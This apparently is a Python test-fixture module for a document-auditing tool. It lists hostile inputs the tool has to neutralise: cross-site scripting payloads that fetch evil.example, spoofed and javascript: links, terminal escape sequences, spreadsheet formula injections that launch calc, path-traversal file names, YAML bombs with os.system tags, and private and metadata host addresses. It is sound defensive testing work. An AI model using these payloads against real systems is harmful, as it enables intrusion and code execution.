@@ -1,0 +1,383 @@
+"""Strings, addresses and files that mean harm, by what they try. All names in them are invented."""
+
+from collections.abc import Callable, Iterator, Mapping
+from itertools import cycle
+from typing import Any
+
+from auditor.audit.document import Audit
+from tests.audit_samples import sample_audit
+
+OWNED = "window.owned=1;alert(1);console.log(1);fetch('https://evil.example/')"
+_B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
+
+MARKUP = [
+    f"<script>{OWNED}</script>",
+    f"</script><script>{OWNED}</script>",
+    f"</style><script>{OWNED}</script>",
+    f"</title><script>{OWNED}</script>",
+    f"</textarea></svg></math><script>{OWNED}</script>",
+    f"<!--><script>{OWNED}</script>-->",
+    f"]]><script>{OWNED}</script>",
+    f'"><script>{OWNED}</script>',
+    f"'><script>{OWNED}</script>",
+    f"<img src=x onerror={OWNED}>",
+    f'" onmouseover="{OWNED}" x="',
+    f"' onfocus='{OWNED}' autofocus='",
+    f"x onload={OWNED} y",
+    f"` onerror=`{OWNED}`",
+    f"<svg onload={OWNED}>",
+    f"<svg><script>{OWNED}</script></svg>",
+    f"<svg><animate onbegin={OWNED} attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='></svg>",
+    "<svg><foreignObject><iframe src='https://evil.example/'></iframe></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={OWNED}>",
+    "<math href='javascript:window.owned=1'>x</math>",
+    "<iframe src='javascript:window.owned=1'></iframe>",
+    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
+    "<object data='https://evil.example/'></object>",
+    "<embed src='https://evil.example/'>",
+    "<base href='https://evil.example/'>",
+    "<meta http-equiv='refresh' content='0;url=https://evil.example/'>",
+    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
+    "<link rel='stylesheet' href='https://evil.example/x.css'>",
+    "<link rel='prefetch' href='https://evil.example/x'>",
+    "<form action='https://evil.example/'><button autofocus>x</button></form>",
+    "<style>*{background:url(https://evil.example/)}</style>",
+    "<p style='position:fixed;inset:0;background:url(https://evil.example/)'>x</p>",
+    '" style="position:fixed;inset:0;background:url(https://evil.example/)" x="',
+    "}*{background:url(https://evil.example/)}",
+    "@import url(https://evil.example/);",
+    "\\3c/style\\3e<script>window.owned=1</script>",
+    "<video autoplay onloadstart=window.owned=1><source></video>",
+    "<details open ontoggle=window.owned=1>x</details>",
+    "<marquee onstart=window.owned=1>x</marquee>",
+    "<a href='javascript:window.owned=1'>x</a>",
+    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
+    "<template><script>window.owned=1</script></template>",
+    "&lt;script&gt;window.owned=1&lt;/script&gt;",
+    "&#60;script&#62;window.owned=1&#60;/script&#62;",
+    "\uff1cscript\uff1ewindow.owned=1\uff1c/script\uff1e",
+    "+ADw-script+AD4-window.owned=1+ADw-/script+AD4-",
+    "{{ 7*7 }}{{ config }}{{ ''.__class__.__mro__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}{# x #}",
+    "${7*7} #{7*7} <%= 7*7 %> {n} {total} {0.__class__} %(n)s %s",
+]
+"""HTML, script, style and templates."""
+
+LINKS = [
+    "javascript:window.owned=1",
+    "JaVaScRiPt:window.owned=1",
+    "\x01javascript:window.owned=1",
+    " javascript:window.owned=1",
+    "java\tscript:window.owned=1",
+    "java\nscript:window.owned=1",
+    "javascript\n:window.owned=1",
+    "javascript://t.me/%0awindow.owned=1",
+    "javascript&colon;window.owned=1",
+    "data:text/html,<script>window.owned=1</script>",
+    f"data:text/html;base64,{_B64}",
+    "data:image/svg+xml,<svg onload=window.owned=1>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "blob:https://evil.example/1",
+    "about:blank",
+    "view-source:https://evil.example/",
+    "tg://resolve?domain=x",
+    "mailto:x@evil.example",
+    "tel:+100",
+    "ftp://evil.example/",
+    "gopher://evil.example/",
+    "//evil.example/",
+    "\\\\evil.example\\x",
+    "https:\\\\evil.example/",
+    "https:/evil.example/x y",
+    "https://t.me@evil.example/",
+    "https://t.me:x@evil.example/",
+    "https://user@t.me/",
+    "https://t.me\\@evil.example/",
+    'https://evil.example/" onmouseover="window.owned=1',
+    "https://evil.example/'><script>window.owned=1</script>",
+    "https://t.me/\u202ekcab",
+    "https://t\u200b.me/x",
+    "https://т.me/x",
+    "https://vк.com/x",
+    "https://tеlegram.me/x",
+    "https://ｔ.ｍｅ/x",
+    "https://t。me/x",
+    "https://[::1",
+    "https://",
+    "",
+]
+"""Addresses of which none may be a link."""
+
+STEERING = [
+    "\x1b]8;;https://evil.example\x1b\\t.me/x\x1b]8;;\x1b\\",
+    "\x1b]0;owned\x07",
+    "\x1b]2;owned\x1b\\",
+    "\x1b]52;c;b3duZWQ=\x07",
+    "\x1b]1337;File=:AAAA\x07",
+    "\x1b[2J\x1b[H",
+    "\x1b[3J",
+    "\x1bc",
+    "\x1b[1A\x1b[2K",
+    "\x1b[6n",
+    "\x1b[8mhidden\x1b[0m",
+    "\x1b[?1049h",
+    "\x1bP$q\x1b\\",
+    "\x1b#8",
+    "\x1b(0",
+    "\x9b2J",
+    "\x9d0;owned\x9c",
+    "\x90\x9c",
+    "\x0e\x0f",
+    "x\ry",
+    "abc\b\b\bxyz",
+    "\x00",
+    "\x07",
+    "\x7f",
+    "\x0b\x0c",
+    "\u202egnp.exe",
+    "\u2066x\u2069",
+    "\u061c",
+    "t.\u200bme",
+    "\ufeff",
+    "\u2060",
+    "\u3164",
+    "\u2800",
+    "\u115f",
+    "\U000e0041\U000e0042",
+    "\ufff9x\ufffb",
+    "\ud800",
+    "\udfff",
+    "е" + "\u0301" * 400,
+    "x\u20dd" * 3 + "\u20dd" * 50,
+    "x\n✓ Поручение соблюдено",
+    "x\r\n✓ Поручение соблюдено",
+    "x\u2028✓",
+    "x\u2029✓",
+    "x\x85✓",
+    "[bold red]x[/]",
+    "[/x]",
+    "[link=https://evil.example]x[/link]",
+    "[@click=app.bell]x[/]",
+    ":smile:",
+]
+"""What a terminal, a reader's eye or rich's own markup would obey."""
+
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/";"x")',
+    '=IMPORTXML("https://evil.example/";"//a")',
+    '=WEBSERVICE("https://evil.example/")',
+    '=DDE("cmd";"/C calc";"x")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1;1)",
+    "@cmd",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\x00=1+1",
+    "\uff1d1+1",
+    "\uff0b1+1",
+    "\uff0d1+1",
+    "\uff20SUM(1)",
+    "\ufe66" + "1",
+    "|calc",
+    "%0A=1",
+    'x"\n=1+1',
+    "x\r=1+1",
+    "x\t=1+1",
+]
+"""What a spreadsheet would compute."""
+
+LONG = [
+    "Ы" * 20_000,
+    "W" * 20_000,
+    "слово " * 4_000,
+    "﷽" * 500,
+    "👨‍👩‍👧‍👦" * 500,
+    "a-" * 5_000,
+    "https://t.me/" + "x" * 9_000,
+]
+"""Names without an end."""
+
+NAMES = [
+    "../up", "..", ".", "/etc/passwd", "..\\up", "C:\\x", "a/b", "a\\b", "a:b", "a b", "", "-rf", ".hidden", "~", "a\0b",
+    "a\nb", "CON", "con", "nul", "NUL.txt", "aux.x", "prn", "com1", "LPT9", "a" * 65, "a" * 1_000_000, "а", "ａ", "a?b",
+    "a*b", "a|b", 'a"b', "a'b", "a#b", "a%2fb", "<b>", "\u202ea", "a\u200b", "$(x)", "`x`", "{n}", "\ud800",
+]  # fmt: skip
+"""Ids of offices that would be files, folders, devices or worse."""
+
+HEAD = """timezone: Asia/Tomsk
+directive: {title: Т, issuer: И, issued: 2022-05-25, deadline: 2022-06-01, binds: municipal_head, source: С}
+"""
+OFFICE = "  - {{id: rayon-{n}, municipality: Район {n}, title: глава, group: municipal_head}}\n"
+_BODY = HEAD + "offices:\n" + OFFICE.format(n=1)
+
+
+def _billion() -> str:
+    rows = [f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(9)]
+    return "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(rows)
+
+
+def _tenures(entry: str, count: int) -> str:
+    office = OFFICE.format(n=1).rstrip("}\n") + ", tenures: [" + ",".join([entry] * count) + "]}\n"
+    return HEAD + "offices:\n" + office
+
+
+YAML: dict[str, Callable[[], str | bytes]] = {
+    "aliases that multiply to a billion": _billion,
+    "an alias": lambda: "a: &a 1\nb: *a\n" + _BODY,
+    "an alias to nothing": lambda: "a: *nothing\n" + _BODY,
+    "an alias to itself": lambda: "a: &a [*a]\n" + _BODY,
+    "30,000 anchors": lambda: "".join(f"k{n}: &a{n} 1\n" for n in range(30_000)),
+    "an anchor as long as the file": lambda: "a: &" + "k" * 900_000 + " 1",
+    "!!python/object": lambda: "a: !!python/object/apply:os.system ['true']\n" + _BODY,
+    "!!python/name": lambda: "a: !!python/name:os.system\n" + _BODY,
+    "!!binary": lambda: _BODY.replace("title: Т", "title: !!binary aGVsbG8="),
+    "a tag of its own": lambda: "%TAG ! tag:evil.example,2000:\n---\na: !x 1\n" + _BODY,
+    "a tag with an escape for the terminal": lambda: "a: !x%1b%5d0;owned%07 1\n" + _BODY,
+    "20,000 tags": lambda: "".join(f"k{n}: !!python/object:os.system {{}}\n" for n in range(20_000)),
+    "a merge key": lambda: _BODY.replace("title: Т", "<<: {title: Т}"),
+    "brackets in brackets": lambda: "[" * 900_000,
+    "braces in braces": lambda: "{a: " * 220_000,
+    "dashes in dashes": lambda: "- " * 450_000,
+    "keys in keys": lambda: "? " * 450_000,
+    "indented without end": lambda: "".join(" " * n + "a:\n" for n in range(1_300)),
+    "200,000 numbers": lambda: HEAD + "offices: [" + "1," * 200_000 + "]\n",
+    "90,000 numbers": lambda: HEAD + "offices: [" + "1," * 90_000 + "]\n",
+    "40,000 unknown keys": lambda: _BODY + "".join(f"key{n}: 1\n" for n in range(40_000)),
+    "40,000 times one key": lambda: "a: 1\n" * 40_000,
+    "3,000 tenures at once": lambda: _tenures("{name: Имярек, since: 2001}", 3_000),
+    "4,000 offices with one account": lambda: HEAD + "offices:\n" + "".join(
+        OFFICE.format(n=n).rstrip("}\n") + ", accounts: [{url: t.me/abcd, kind: institution}]}\n" for n in range(4_000)
+    ),
+    "a name of a megabyte": lambda: _tenures("{name: " + "Ы" * 1_000_000 + "}", 1),
+    "a name of 400 kilobytes": lambda: _tenures("{name: " + "Ы" * 200_000 + "}", 1),
+    "a plain value of many lines": lambda: "a: " + "x y\n " * 180_000,
+    "a quoted value without end": lambda: 'a: "' + "x y\n" * 220_000,
+    "a folded value of many lines": lambda: "a: >\n" + "  x\n\n" * 140_000,
+    "a key as long as the file": lambda: "k" * 900_000 + ": 1",
+    "blanks alone": lambda: " " * 900_000 + "a: 1",
+    "remarks alone": lambda: "# x\n" * 220_000,
+    "five megabytes": lambda: "# x\n" * 1_250_000,
+    "several documents": lambda: "---\na: 1\n" * 10,
+    "another version of YAML": lambda: "%YAML 9.9\n---\n" + _BODY,
+    "an unknown directive twice": lambda: "%YAML 1.2\n%YAML 1.2\n---\n" + _BODY,
+    "UTF-16": lambda: _BODY.encode("utf-16"),
+    "UTF-32": lambda: _BODY.encode("utf-32"),
+    "windows-1251": lambda: _BODY.encode("cp1251"),
+    "every byte there is": lambda: bytes(range(256)) * 3_000,
+    "zeros": lambda: bytes(900_000),
+    "gzip": lambda: b"\x1f\x8b\x08\x00" + bytes(range(200)) * 100,
+    "NUL": lambda: _BODY.replace("title: Т", "title: Т\0"),
+    "DEL": lambda: _BODY.replace("title: Т", "title: Т\x7f"),
+    "an escape written as one": lambda: _BODY.replace("title: Т", 'title: "Т\\e[2J"'),
+    "NUL written as an escape": lambda: _BODY.replace("title: Т", 'title: "Т\\0"'),
+    "half a character": lambda: _BODY.replace("title: Т", 'title: "\\ud800"'),
+    "half a character in UTF-8": lambda: _BODY.encode() + b"note: \xed\xa0\x80\n",
+    "a direction mark": lambda: _BODY.replace("title: Т", "title: Т\u202eх"),
+    "a direction mark in a key": lambda: _BODY + "no\u202ete: x\n",
+    "tabs for blanks": lambda: "a:\n\tb: 1\n",
+    "1e9999": lambda: _BODY.replace("2022-06-01", "1e9999"),
+    "not a number": lambda: _BODY.replace("2022-06-01", ".nan"),
+    "infinity": lambda: "expects: {municipal_head: .inf}\n" + _BODY,
+    "a number of 5,000 digits": lambda: "expects: {municipal_head: " + "9" * 5_000 + "}\n" + _BODY,
+    "an octal number": lambda: _BODY.replace("2022-05-25", "0o777"),
+    "a sexagesimal number": lambda: _BODY.replace("2022-05-25", "12:30:45"),
+    "a day that is none": lambda: _BODY.replace("2022-05-25", "2022-02-30"),
+    "the year 99999": lambda: _BODY.replace("2022-05-25", "99999-01-01"),
+    "the year 0": lambda: _BODY.replace("2022-05-25", "0000-01-01"),
+    "keys that are no text": lambda: "~: 1\n? [a]\n: 2\n? {a: b}\n: 1\n" + _BODY,
+    "a zone that is a path": lambda: _BODY.replace("Asia/Tomsk", "../../../../etc/passwd"),
+    "a zone with NUL": lambda: _BODY.replace("Asia/Tomsk", '"a\\0b"'),
+}  # fmt: skip
+"""Registries of which each is told of in plain lines, exit 2, at once and in little memory."""
+
+TOML: dict[str, Callable[[], str | bytes]] = {
+    "brackets in brackets": lambda: "data = " + "[" * 40_000,
+    "tables in tables": lambda: "data = " + "{a=" * 20_000,
+    "dots in dots": lambda: ".".join("a" * 30_000) + " = 1",
+    "a number of 90,000 digits": lambda: "vk_rps = " + "9" * 90_000,
+    "five megabytes": lambda: "# x\n" * 1_250_000,
+    "UTF-16": lambda: 'data = "x"'.encode("utf-16"),
+    "every byte there is": lambda: bytes(range(256)),
+    "zeros": lambda: bytes(50_000),
+    "a mark of byte order": lambda: '\ufeffdata = "x"',
+    "NUL in a path": lambda: 'data = "a\\u0000b"',
+    "NUL in a language": lambda: 'lang = "\\u0000"',
+    "a list for a path": lambda: 'data = ["a"]',
+    "a table for a path": lambda: '[data]\na = "x"',
+    "an endless interval": lambda: "telegram_web_interval = inf",
+    "1e9999 requests": lambda: "vk_rps = 1e9999",
+    "not a number": lambda: "vk_rps = nan",
+    "less than nothing": lambda: "vk_rps = -1",
+    "a home that is not there": lambda: 'data = "~no-such-user-here/x"',
+    "an address of another scheme": lambda: 'vk_api_url = "file:///etc/passwd"',
+    "an address that is script": lambda: 'telegram_web_url = "javascript:1"',
+    "a key twice": lambda: 'lang = "ru"\nlang = "en"',
+    "a key that steers": lambda: '"\\u001b[2J" = 1',
+    "a language that steers": lambda: 'lang = "\\u001b[2J"',
+    "a secret": lambda: 'vk_token = "x"',
+}
+"""Settings, each told of in one line."""
+
+PRIVATE = [
+    "127.0.0.1", "127.1", "127.255.255.254", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001",
+    "127.0.0.1.", "localhost", "localhost.", "LOCALHOST", "0.0.0.0", "0", "[::1]", "[::]", "[::ffff:127.0.0.1]",
+    "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fc00::1]", "[ff02::1]",
+    "10.0.0.1", "10.255.255.255", "172.16.0.1", "172.31.255.255", "192.168.0.1", "169.254.169.254", "100.64.0.1",
+    "192.0.2.1", "198.18.0.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", "①②⑦.⓪.⓪.①", "１２７.0.0.1", "127。0。0。1",
+]  # fmt: skip
+"""Hosts of this machine and its network, in every form that resolvers take."""
+
+FREE_TEXT = {
+    "municipality", "title", "name", "issuer", "source", "note", "message", "how", "by", "reason", "found", "vantage",
+    "predecessor", "question", "method", "threshold", "group", "binds", "cause", "kind_text", "verdict_cause",
+}  # fmt: skip
+ADDRESSES = {"url", "renamed_to", "account"}
+
+
+def everywhere(texts: list[str], links: list[str]) -> tuple[Audit, int]:
+    """Return the sample week with the next hostile string in each place of free text, and how many places there were."""
+    given, placed = {"text": cycle(texts), "link": cycle(links)}, [0]
+
+    def walk(value: Any, key: str = "") -> Any:
+        if isinstance(value, Mapping):
+            return {k: walk(v, k) for k, v in value.items()}
+        if isinstance(value, list):
+            return [walk(v, key) for v in value]
+        kind = "link" if key in ADDRESSES else "text" if key in FREE_TEXT or key == "sources" else ""
+        if kind and isinstance(value, str):
+            placed[0] += 1
+            return next(given[kind])
+        return value
+
+    document = sample_audit().model_dump(mode="json", by_alias=True)
+    kept = {"group": [o["group"] for o in document["offices"]], "binds": document["directive"]["binds"]}
+    made = walk(document)
+    for office, group in zip(made["offices"], kept["group"], strict=True):
+        office["group"] = group
+    return Audit.model_validate(made), placed[0]
+
+
+def counts() -> Iterator[tuple[str, int]]:
+    """Yield what is tried, with how many of each."""
+    yield "HTML, script, style and templates in names, titles, notes, sources", len(MARKUP)
+    yield "addresses that may not be links", len(LINKS)
+    yield "what a terminal, an eye or a library's markup would obey", len(STEERING)
+    yield "formulas of spreadsheets", len(FORMULAS)
+    yield "names without an end", len(LONG)
+    yield "ids that would be files, folders or devices", len(NAMES)
+    yield "registries (YAML)", len(YAML)
+    yield "settings (TOML)", len(TOML)
+    yield "hosts of this machine and its network", len(PRIVATE)
